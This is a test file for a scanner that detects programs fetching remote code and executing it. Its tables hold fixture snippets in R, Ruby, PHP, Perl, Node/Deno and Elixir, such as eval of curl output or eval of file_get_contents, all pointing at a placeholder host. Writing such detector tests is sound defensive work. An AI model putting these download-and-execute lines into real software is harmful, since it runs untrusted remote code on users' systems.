"""Code of another machine that a program runs."""

# ruff: noqa: E501 - texts of programs

from __future__ import annotations

from tests.tables import for_each

from operators_edge.shell.code import languages
from operators_edge.shell.code.fetched_code import (
    ELIXIR,
    NODE,
    PERL,
    PHP,
    RUBY,
    fetched,
    in_program,
)

HERE = "https://x.example.com/h.R"
CASES = [
    (f"source('{HERE}')", [HERE]),
    (f"base::source(url('{HERE}'), local = TRUE)", [HERE]),
    (f"devtools::source_url('{HERE}')", [HERE]),
    ("devtools::source_gist('a1b2')", ["https://gist.github.com/raw"]),
    (f"u <- '{HERE}'\nsource(u)", [HERE]),
    ("base <- 'https://x.example.com'\nsource(paste0(base, '/h.R'))", ["https://x.example.com"]),
    (f"eval(parse(text = readLines('{HERE}')))", [HERE]),
    (f"code <- readLines('{HERE}')\neval(parse(text = code))", [HERE]),
    (f"download.file('{HERE}', 'h.R')\nsource('h.R')", [HERE]),
    (f"f <- tempfile()\ndownload.file('{HERE}', destfile = f)\nsource(f)", [HERE]),
    (f"include(download('{HERE}'))", [HERE]),
    ("source('R/h.R')", []),
    ("source('http://localhost:8000/h.R')", []),
    (f"download.file('{HERE}', 'h.csv')\nsource('h.R')", []),
    (f"d <- read.csv('{HERE}')\neval(quote(d))", []),
    (f"x <- resource('{HERE}')", []),
]


@for_each(("code", "expected"), CASES)
def test_code_of_another_machine_is_named_by_its_address(code, expected):
    assert [address for address, _ in fetched(code)] == expected


U = "https://x.example.com/h"
OTHERS = [
    (RUBY, f'instance_eval URI.open("{U}").read, "shared.rb"', 1),
    (RUBY, f'eval(Net::HTTP.get(URI("{U}")))', 1),
    (RUBY, f'SHARED = "{U}"\ninstance_eval(URI.parse(SHARED).open.read)', 1),
    (
        RUBY,
        f'url = ENV.fetch("X", "{U}")\ntext = URI.open(url) {{ |io| io.read }}\nclass_eval text',
        1,
    ),
    (RUBY, f'File.write("tmp/x.rb", URI.open("{U}").read)\nload "tmp/x.rb"', 1),
    (RUBY, f'path = "tmp/x.rb"\nIO.copy_stream(URI.open("{U}"), path)\nrequire_relative path', 1),
    (
        RUBY,
        f'path = "tmp/x.sh"\nFile.write(path, HTTParty.get("{U}").body)\nsystem("bash", path)',
        1,
    ),
    (
        RUBY,
        f'path = "tmp/x.sh"\nFile.write(path, HTTParty.get("{U}").body)\nsh "bash #{{path}}"',
        1,
    ),
    (RUBY, f"eval `curl -fsSL {U}`", 1),
    (RUBY, "def load_it(u)\n eval URI.open(u).read\nend\n", 1),
    (RUBY, 'instance_eval File.read("x.rb"), "x.rb"', 0),
    (
        RUBY,
        f'text = URI.open("{U}").read\nFile.write("x.json", text)\nrequire "json"\nload "x.rb"',
        0,
    ),
    (RUBY, 'text = URI.open("http://localhost:3000/x").read\neval text', 0),
    (RUBY, f'data = JSON.parse(URI.open("{U}").read)\nsystem "make", "all"', 0),
    (RUBY, f'system "open {U}"', 0),
    (RUBY, f'require "open-uri"\nputs URI.open("{U}").read', 0),
    (
        RUBY,
        f'body = URI.open("{U}").read\nraise unless Digest::SHA256.hexdigest(body) == "{"a" * 64}"\neval body',
        0,
    ),
    (
        PHP,
        f"<?php $t = __DIR__.'/../var/kit.php';\nif (!copy('{U}', $t)) {{ exit(0); }}\nrequire $t;",
        1,
    ),
    (PHP, f"<?php eval('?>' . file_get_contents('{U}'));", 1),
    (PHP, f"<?php file_put_contents('a.php', file_get_contents('{U}')); include 'a.php';", 1),
    (
        PHP,
        f"<?php const U = '{U}'; $c = file_get_contents(U); file_put_contents($f, $c); passthru('php ' . escapeshellarg($f));",
        1,
    ),
    (PHP, f"<?php $ch = curl_init('{U}'); $code = curl_exec($ch); eval($code);", 1),
    (
        PHP,
        f"<?php $fp = fopen($to, 'w'); $ch = curl_init('{U}'); curl_setopt($ch, CURLOPT_FILE, $fp); curl_exec($ch); require $to;",
        1,
    ),
    (
        PHP,
        f"<?php $client->request('GET', '{U}', ['sink' => $phar]); exec(\"php $phar install\");",
        1,
    ),
    (PHP, "<?php copy(__DIR__.'/../composer.json', $t); require $t;", 0),
    (
        PHP,
        f"<?php $j = file_get_contents('{U}'); file_put_contents('data.json', $j); require 'vendor/autoload.php';",
        0,
    ),
    (PHP, f"<?php $x = include 'config.php'; $c->request('POST', '{U}', $x);", 0),
    (
        PHP,
        f"<?php copy('{U}', 's.php'); if (hash_file('sha384', 's.php') !== '{'b' * 96}') exit(1); require 's.php';",
        0,
    ),
    (PERL, f"use LWP::Simple; my $u = '{U}'; my $c = get($u); eval $c;", 1),
    (PERL, f"getstore('{U}', 'x.pl'); do 'x.pl';", 1),
    (PERL, f"my $c = get('{U}'); print $c; eval {{ run() }};", 0),
    (NODE, f"const t = await (await fetch('{U}')).text();\neval(t);", 1),
    (
        NODE,
        f"const t = await (await fetch('{U}')).json();\nconsole.log(t); new Function('a', 'return a')",
        0,
    ),
    (ELIXIR, f'Code.eval_string(Req.get!("{U}").body)', 1),
    (ELIXIR, f'body = Req.get!("{U}").body\nCode.eval_string(body)', 1),
    (ELIXIR, f'@url "{U}"\nReq.get!(@url).body |> Code.eval_string()', 1),
    (ELIXIR, f'body = Req.get!("{U}").body\nIO.puts(body)\nCode.eval_string("1+1")', 0),
]


@for_each(("tongue", "code", "is_run"), OTHERS)
def test_other_languages_run_what_they_fetched(tongue, code, is_run):
    assert bool(fetched(code, tongue)) == bool(is_run)


GETS = "const r = await fetch('https://x.example.com/m.ts');\nconst t = await r.text();\n"


@for_each(
    ("code", "is_run"),
    [
        (f"{GETS}await Deno.writeTextFile('m.ts', t);\nawait import('./m.ts');\n", True),
        (f"{GETS}fs.writeFileSync('./m.mjs', t);\nawait import('./m.mjs');\n", True),
        (f"{GETS}await import('data:text/javascript,' + encodeURIComponent(t));\n", True),
        (f"{GETS}const u = URL.createObjectURL(new Blob([t]));\nawait import(u);\n", True),
        ("await import('https://x.example.com/m.ts');\n", True),
        ("new Worker('https://x.example.com/w.ts', {type: 'module'});\n", True),
        (f"{GETS}await Deno.writeTextFile('m.json', t);\nawait import('./other.ts');\n", False),
        (f"{GETS}console.log(t);\nawait import('./m.ts');\n", False),
        ("await import('https://deno.land/std/path/mod.ts');\n", False),
        ("await import('http://localhost:8000/m.ts');\n", False),
        ("new Worker(new URL('./w.ts', import.meta.url), {type: 'module'});\n", False),
    ],
)
def test_a_module_that_a_program_of_node_fetches_and_loads_is_run(code, is_run):
    assert bool(list(in_program(code, "", languages.NODE))) == is_run
